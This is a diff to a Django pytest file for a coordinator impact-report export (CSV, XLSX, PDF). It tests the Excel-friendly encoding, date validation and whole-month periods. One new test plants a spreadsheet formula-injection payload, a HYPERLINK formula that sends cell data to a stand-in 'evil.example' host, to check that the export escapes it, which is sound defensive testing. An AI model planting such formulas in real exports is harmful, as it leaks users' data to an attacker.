@@ -3,6 +3,7 @@ import io
 import re
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
@@ -93,9 +94,12 @@ def test_csv_and_xlsx_hold_every_aggregate_and_no_person(coordinator_client, dat
     expected = expected_figures(city, year_period(YEAR))
     response = coordinator_client.get("/impact/export.csv", QUERY)
     assert response.status_code == 200
-    text = response.content.decode()
+    # Belgian Excel: a byte order mark for the accents, ";" between cells.
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    text = response.content.decode("utf-8-sig")
     _no_personal_data(text)
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert all(len(row) >= 2 for row in rows)
     values = [row[2] for row in rows[3:]]
     assert str(expected["sessions_held"]) in values
     assert str(expected["people_reached"]) in values
@@ -144,3 +148,60 @@ def test_navigation_offers_impact_to_coordinators():
 
     assert "impact:dashboard" in [i["url_name"] for i in items_for({"coordinator"})]
     assert "impact:dashboard" not in [i["url_name"] for i in items_for({"participant"})]
+
+
+def test_export_cells_that_look_like_formulas_stay_text(coordinator_client, dataset, city):
+    """A neighbourhood (free text) or a city name typed as a formula is never run."""
+    from interra.venues.models import Venue
+
+    trap = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Venue.objects.filter(city=city).update(neighbourhood=trap)
+    city.name = "@SUM(1+1)"
+    city.save(update_fields=["name"])
+    text = coordinator_client.get("/impact/export.csv", QUERY).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'@SUM(1+1)" in cells
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
+
+    response = coordinator_client.get("/impact/export.xlsx", QUERY)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not any(cell.data_type == "f" for cell in values)
+    texts = [cell.value for cell in values if isinstance(cell.value, str)]
+    assert any(text.startswith("'=HYPERLINK(") for text in texts)
+    assert not any(text[:1] in ("=", "+", "@", "-") for text in texts)
+
+
+@pytest.mark.parametrize("start", ["0001-01-01", "9999-12-31", "10000-01-01", "2025-13-01",
+                                   "2025-02-30", "1-1", "9999-12", "nope"])
+@pytest.mark.parametrize("url", ["/impact/", "/impact/export.csv", "/impact/export.xlsx",
+                                 "/impact/report.pdf"])
+def test_extreme_or_malformed_dates_answer_400_with_a_message(coordinator_client, city, url,
+                                                              start):
+    with translation.override("en"):
+        response = coordinator_client.get(url, {"start": start}, HTTP_ACCEPT_LANGUAGE="en")
+    assert response.status_code == 400
+    text = response.content.decode()
+    assert "Choose a month between 2000 and 2100" in text or "Enter a month as" in text
+
+
+def test_end_of_the_year_9999_is_refused(coordinator_client, city):
+    response = coordinator_client.get("/impact/export.csv",
+                                      {"start": "2025-01-01", "end": "9999-12-31"})
+    assert response.status_code == 400
+
+
+def test_periods_are_whole_months_whatever_is_typed(coordinator_client, dataset):
+    """Two periods one day apart are the same whole months: identical exports."""
+    first = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02-01", "end": f"{YEAR}-04-01"})
+    second = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02-02", "end": f"{YEAR}-04-01"})
+    assert first.status_code == second.status_code == 200
+    assert first.content == second.content
+    months = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02", "end": f"{YEAR}-03"})
+    assert months.content == first.content
+    assert f"{YEAR}-02-01".encode() in first.content
+    assert f"{YEAR}-03-31".encode() in first.content
